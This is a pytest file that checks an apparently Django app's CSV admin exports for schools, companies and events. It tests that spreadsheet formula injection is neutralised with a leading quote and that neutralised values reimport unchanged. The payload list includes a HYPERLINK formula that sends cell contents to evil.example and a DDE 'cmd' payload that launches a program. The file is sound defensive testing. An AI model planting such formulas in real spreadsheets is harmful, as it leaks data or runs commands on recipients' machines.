"""Formula injection: no cell of a file we produce runs as a spreadsheet formula."""

import csv
import io

import pytest

from academies.models import School
from academies.resources import CompanyResource, SchoolResource, TolerantCSV
from events.resources import EventResource
from semaine.spreadsheets import cell_neutralise, cell_restore
from tests import factories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_get_the_text_mark_and_come_back_unchanged(payload):
    assert cell_neutralise(payload) == "'" + payload
    assert cell_restore(cell_neutralise(payload)) == payload


@pytest.mark.parametrize(
    "value", ["-4.4833", "+33", "45.19", "-1e3", 12, -4.5, None, "Lycée Vaucanson", "'déjà"]
)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert cell_neutralise(value) == value
    assert cell_restore(value) == value


def csv_rows(resource, queryset) -> list[list[str]]:
    exported = TolerantCSV().export_data(resource.export(queryset))
    return list(csv.reader(io.StringIO(exported), delimiter=";"))


@pytest.mark.django_db
def test_the_admin_exports_of_schools_companies_and_events_are_neutralised():
    school = factories.SchoolFactory(name="=1+1 collège", address="@adresse", longitude=-1.55)
    company = factories.CompanyFactory(name="+33 industrie", longitude=-4.48)
    event = factories.PublishedEventFactory(
        title='=HYPERLINK("http://evil.example")', contact_name="-Dupont", company=company
    )
    schools = csv_rows(SchoolResource(), School.objects.filter(pk=school.pk))
    assert "'=1+1 collège" in schools[1] and "'@adresse" in schools[1]
    # A longitude is a number, not a formula (written "-1,55" in French).
    assert "-1.55" in [cell.replace(",", ".") for cell in schools[1]]
    companies = csv_rows(CompanyResource(), type(company).objects.filter(pk=company.pk))
    assert "'+33 industrie" in companies[1]
    assert "-4.48" in [cell.replace(",", ".") for cell in companies[1]]
    events = csv_rows(EventResource(), type(event).objects.filter(pk=event.pk))
    assert """'=HYPERLINK("http://evil.example")""" in events[1]
    assert "'-Dupont" in events[1]


@pytest.mark.django_db
def test_a_neutralised_school_export_reimports_unchanged():
    school = factories.SchoolFactory(name="-Collège du Lac", address="=12 rue")
    exported = TolerantCSV().export_data(SchoolResource().export(School.objects.all()))
    School.objects.filter(pk=school.pk).update(name="autre", address="")
    dataset = TolerantCSV().create_dataset(exported)
    result = SchoolResource().import_data(dataset, dry_run=False, raise_errors=True)
    assert not result.has_validation_errors()
    school.refresh_from_db()
    assert (school.name, school.address) == ("-Collège du Lac", "=12 rue")
